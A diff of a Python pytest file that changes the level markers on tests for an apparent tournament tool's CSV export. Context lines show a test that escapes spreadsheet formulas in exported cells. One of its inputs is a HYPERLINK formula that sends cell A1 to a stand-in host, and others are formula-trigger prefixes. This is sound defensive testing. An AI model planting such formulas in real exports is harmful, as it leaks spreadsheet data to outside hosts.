@@ -116,7 +116,7 @@ def test_the_largest_seed_and_hostile_names_survive(tmp_path: Path, run: Run) ->
         assert {row["tournament"] for row in rows} == {row["round"] for row in rows} == {None}
 
 
-@pytest.mark.level(1)
+@pytest.mark.level(2)
 def test_a_cell_of_csv_is_no_formula(tmp_path: Path, run: Run) -> None:
     """What a bot says begins with a quote where a spreadsheet would compute it; numbers stay numbers."""
     for number, reason in enumerate(('=HYPERLINK("http://x/?"&A1)', "+1", "-1+1", "@sum", "\t=1", "\r=1")):
@@ -147,6 +147,7 @@ def test_a_file_that_can_not_be_written_is_refused_at_once(
         assert (status, errors) == (2, f"error: --out: {out} can't be written: {problem}\n")
 
 
+@pytest.mark.level(1)
 @pytest.mark.parametrize(
     "command", [("export", "--format", "csv"), ("export", "--format", "records"), ("report",)]
 )
